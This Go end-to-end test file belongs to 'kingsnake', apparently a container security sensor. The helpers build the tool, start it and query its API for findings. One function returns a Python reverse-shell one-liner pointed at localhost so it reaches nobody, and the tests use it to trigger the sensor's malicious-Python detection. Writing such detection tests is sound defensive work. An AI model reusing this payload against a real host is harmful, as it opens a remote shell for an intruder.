package e2e

import (
	"bytes"
	"context"
	"encoding/json"
	"fmt"
	"io"
	"net/http"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"sync"
	"syscall"
	"testing"
	"time"

	"kingsnake/finding"
)

// patience is how long a test waits for something that must happen.
const patience = time.Minute

// kingsnake returns the command that runs kingsnake, which it builds.
func kingsnake(t *testing.T, args ...string) *exec.Cmd {
	t.Helper()
	path, err := build()
	if err != nil {
		t.Fatal(err)
	}
	cmd := exec.CommandContext(context.WithoutCancel(t.Context()), path, args...)
	cmd.SysProcAttr = &syscall.SysProcAttr{Pdeathsig: syscall.SIGKILL}
	return cmd
}

// build builds kingsnake once, and returns its path.
var build = sync.OnceValues(func() (string, error) {
	dir, err := os.MkdirTemp("", "kingsnake")
	if err != nil {
		return "", err
	}
	path := filepath.Join(dir, "kingsnake")
	cmd := exec.Command("go", "build", "-o", path, "kingsnake/cmd/kingsnake")
	cmd.Env = append(os.Environ(), "CGO_ENABLED=0")
	if text, err := cmd.CombinedOutput(); err != nil {
		return "", fmt.Errorf("build kingsnake: %v\n%s", err, text)
	}
	return path, nil
})

// output collects what a process writes.
type output struct {
	mu  sync.Mutex
	buf bytes.Buffer
}

func (o *output) Write(p []byte) (int, error) {
	o.mu.Lock()
	defer o.mu.Unlock()
	return o.buf.Write(p)
}

func (o *output) String() string {
	o.mu.Lock()
	defer o.mu.Unlock()
	return o.buf.String()
}

// instance is a running "kingsnake up".
type instance struct {
	data string
}

// up starts kingsnake with more flags, which say whose containers it watches, and
// waits until its sensor is at work.
func up(t *testing.T, flags ...string) *instance {
	t.Helper()
	in := &instance{data: t.TempDir()}
	said := &output{}
	cmd := kingsnake(t, append([]string{"up", "--data", in.data, "--listen", "127.0.0.1:0", "--host=false"}, flags...)...)
	cmd.Stdout, cmd.Stderr = said, said
	if err := cmd.Start(); err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() {
		cmd.Process.Signal(os.Interrupt)
		if err := cmd.Wait(); err != nil {
			t.Errorf("kingsnake up ended with %v", err)
		}
		if t.Failed() {
			t.Logf("kingsnake up said:\n%s", said)
		}
	})
	await(t, "the sensor is at work", func() bool {
		sensors, err := in.sensors(t.Context())
		return err == nil && len(sensors) == 1 && sensors[0].Watching != ""
	})
	return in
}

// get asks the API and decodes the answer into v.
func (in *instance) get(ctx context.Context, path string, v any) error {
	address, err := os.ReadFile(filepath.Join(in.data, "address"))
	if err != nil {
		return err
	}
	token, err := os.ReadFile(filepath.Join(in.data, "read.token"))
	if err != nil {
		return err
	}
	q, err := http.NewRequestWithContext(ctx, http.MethodGet, strings.TrimSpace(string(address))+"/api/v1"+path, nil)
	if err != nil {
		return err
	}
	q.Header.Set("Authorization", "Bearer "+strings.TrimSpace(string(token)))
	answer, err := http.DefaultClient.Do(q)
	if err != nil {
		return err
	}
	defer answer.Body.Close()
	body, err := io.ReadAll(answer.Body)
	if err != nil {
		return err
	}
	if answer.StatusCode != http.StatusOK {
		return fmt.Errorf("GET %s: %s: %s", path, answer.Status, body)
	}
	return json.Unmarshal(body, v)
}

// findings lists all findings.
func (in *instance) findings(ctx context.Context) ([]finding.Finding, error) {
	var page struct {
		Findings []finding.Finding `json:"findings"`
	}
	err := in.get(ctx, "/findings?limit=1000", &page)
	return page.Findings, err
}

// byLastLine returns the findings about the imitations whose names begin with nonce,
// by the rest of their names.
func (in *instance) byLastLine(t *testing.T, nonce string) map[string]finding.Finding {
	t.Helper()
	all, err := in.findings(t.Context())
	if err != nil {
		t.Fatal(err)
	}
	found := make(map[string]finding.Finding)
	for _, f := range all {
		if len(f.Process.Args) == 0 || f.Category != finding.MaliciousPython {
			continue
		}
		if _, name, ok := strings.Cut(f.Process.Args[len(f.Process.Args)-1], "# "+nonce); ok {
			found[name] = f
		}
	}
	return found
}

// finding returns a whole finding.
func (in *instance) finding(ctx context.Context, name string) (finding.Finding, error) {
	var f finding.Finding
	err := in.get(ctx, "/findings/"+name, &f)
	return f, err
}

// sensors lists the sensors' latest heartbeats.
func (in *instance) sensors(ctx context.Context) ([]finding.SensorStatus, error) {
	var page struct {
		Sensors []finding.SensorStatus `json:"sensors"`
	}
	err := in.get(ctx, "/sensors", &page)
	return page.Sensors, err
}

// imitation is the text of a script that looks like a reverse shell and reaches
// nobody. It ends in a comment by which byLastLine knows it.
func imitation(name string) string {
	return `import socket,os,pty;s=socket.socket();s.settimeout(0.02);s.connect(("127.0.0.1",9));` +
		`os.dup2(s.fileno(),0);os.dup2(s.fileno(),1);os.dup2(s.fileno(),2);pty.spawn("/bin/sh") # ` + name
}

// await waits until ok returns true.
func await(t *testing.T, what string, ok func() bool) {
	t.Helper()
	deadline := time.NewTimer(patience)
	defer deadline.Stop()
	tick := time.NewTicker(50 * time.Millisecond)
	defer tick.Stop()
	for !ok() {
		select {
		case <-tick.C:
		case <-deadline.C:
			t.Fatalf("waited %v in vain: %s", patience, what)
		case <-t.Context().Done():
			t.Fatalf("the test was stopped while waiting: %s", what)
		}
	}
}
